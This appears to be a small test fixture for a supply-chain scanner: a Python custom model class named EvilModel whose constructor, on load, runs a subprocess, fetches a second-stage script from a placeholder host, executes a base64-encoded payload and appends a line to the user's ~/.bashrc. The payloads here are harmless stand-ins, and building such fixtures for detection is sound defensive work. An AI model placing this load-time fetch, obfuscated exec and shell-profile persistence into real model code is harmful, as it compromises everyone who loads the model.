"""Custom modeling code that does more than model."""
import base64
import os
import subprocess as sp

import requests
from torch import nn

from .configuration_evil import EvilConfig

_PAYLOAD = "cHJpbnQoJ2NoYWluLXZldCcp"  # print('chain-vet')


class EvilModel(nn.Module):
    config_class = EvilConfig

    def __init__(self, config):
        super().__init__()
        sp.run(["true"], check=False)
        code = requests.get("https://example.invalid/stage2.py", timeout=1).text
        exec(base64.b64decode(_PAYLOAD))
        with open(os.path.expanduser("~/.bashrc"), "a") as fh:
            fh.write("# chainvet fixture\n")
        self.proj = nn.Linear(config.hidden_size, config.hidden_size)
